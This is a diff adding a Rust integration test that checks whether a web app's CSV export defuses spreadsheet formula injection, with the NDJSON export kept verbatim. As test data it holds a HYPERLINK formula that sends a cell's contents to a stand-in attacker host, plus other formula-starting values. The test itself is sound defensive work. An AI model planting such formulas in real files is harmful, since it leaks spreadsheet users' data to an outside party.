@@ -410,3 +410,41 @@ async fn with_the_search_engine_down_pages_degrade_and_database_reads_go_on() {
     assert_eq!(status, StatusCode::OK);
     assert_eq!(csv_rows(&body).len(), 79, "every published demo record, from the database");
 }
+
+#[actix_web::test]
+async fn csv_cells_never_start_a_formula_and_ndjson_is_untouched() {
+    let app = demo().await;
+    let editor = app.token("eve", "editor");
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+    let org = app
+        .graphql_as(
+            Some(&editor),
+            r#"mutation { createOrganization(input: { name: "@SUM(1+1) Agency", kind: UN }) { organization { id } } }"#,
+            json!({}),
+        )
+        .await["data"]["createOrganization"]["organization"]["id"]
+        .clone();
+    let create = r#"mutation($title: String!, $org: ID!) { createGuidanceTool(input: { title: $title,
+        summary: "-2+3 and a summary that starts like arithmetic.", toolKind: HANDBOOK, publisher: $org }) { guidanceTool { id } } }"#;
+    let created = app.graphql_as(Some(&editor), create, json!({ "title": formula, "org": org })).await;
+    let id = created["data"]["createGuidanceTool"]["guidanceTool"]["id"].clone();
+    assert!(id.is_string(), "{created}");
+    let publish = "mutation($id: ID!) { publishGuidanceTool(id: $id) { guidanceTool { id } } }";
+    assert!(app.graphql_as(Some(&editor), publish, json!({ "id": id })).await.get("errors").is_none());
+
+    let (status, body, _) = app.get_text("/export.csv?type=guidance_tool").await;
+    assert_eq!(status, StatusCode::OK);
+    let rows = csv_rows(&body);
+    let row = rows.iter().find(|row| row.get(0) == id.as_str()).expect("the new tool is exported");
+    assert_eq!(row.get(4), Some(format!("'{formula}").as_str()), "title");
+    assert_eq!(row.get(5), Some("'-2+3 and a summary that starts like arithmetic."), "summary");
+    assert_eq!(row.get(11), Some("'@SUM(1+1) Agency"), "organizations");
+    for row in &rows {
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts a formula: {cell:?}");
+        }
+    }
+    let (_, lines, _) = app.get_text("/export.ndjson?type=guidance_tool").await;
+    let line = lines.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).find(|l| l["id"] == id).unwrap();
+    assert_eq!(line["title"], formula, "NDJSON keeps the text as it is");
+}
